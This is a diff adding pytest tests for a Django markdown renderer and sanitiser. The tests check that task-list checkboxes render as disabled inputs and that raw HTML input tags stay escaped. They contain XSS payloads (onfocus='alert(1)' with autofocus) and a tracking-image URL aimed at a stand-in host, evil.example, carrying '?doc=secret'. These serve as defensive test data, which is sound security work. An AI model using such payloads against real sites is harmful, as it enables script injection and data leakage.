@@ -1,5 +1,7 @@
 """render_markdown: a real markdown parser, then a sanitiser."""
 
+import re
+
 import pytest
 from django.utils.safestring import SafeString
 
@@ -55,3 +57,32 @@ def test_markdown_images_are_dropped_so_nothing_is_fetched_without_a_click():
     html = render_markdown("![tracking](https://evil.example/pixel.png?doc=secret)")
     assert "<img" not in html
     assert "evil.example" not in html
+
+
+def _boxes(html: str) -> list[tuple[str, ...]]:
+    """Each real <input>'s attributes, sorted (the sanitiser's order varies)."""
+    return [tuple(sorted(re.findall(r'(\w+)="[^"]*"', tag))) for tag in re.findall(r"<input[^>]*>", html)]
+
+
+UNTICKED, TICKED = ("disabled", "type"), ("checked", "disabled", "type")
+
+
+def test_task_list_items_render_as_disabled_checkboxes_showing_their_state():
+    html = render_markdown("- [ ] to do\n- [x] done\n  - [X] nested\n- plain [ ] item\n\n`[ ] code`")
+    assert '<ul class="contains-task-list">' in html
+    items = re.findall(r'<li class="task-list-item">(<input[^>]*>) (\w+)', html)
+    assert [(_boxes(box)[0], text) for box, text in items] == [(UNTICKED, "to"), (TICKED, "done"), (TICKED, "nested")]
+    assert all('type="checkbox"' in box and 'disabled="disabled"' in box for box, _ in items)
+    assert "<li>plain [ ] item</li>" in html and "<code>[ ] code</code>" in html
+    assert len(_boxes(html)) == 3
+
+
+@pytest.mark.parametrize("source", [
+    '<input type="text" onfocus="alert(1)" autofocus>',
+    '- [ ] <input type="text" onfocus="alert(1)">',
+])
+def test_raw_inputs_in_the_source_stay_text_and_no_input_is_ever_more_than_a_disabled_checkbox(source):
+    html = render_markdown(source)
+    assert "&lt;input type=" in html  # shown as the text it is
+    assert set(_boxes(html)) <= {UNTICKED}
+    assert all('type="checkbox"' in tag for tag in re.findall(r"<input[^>]*>", html))
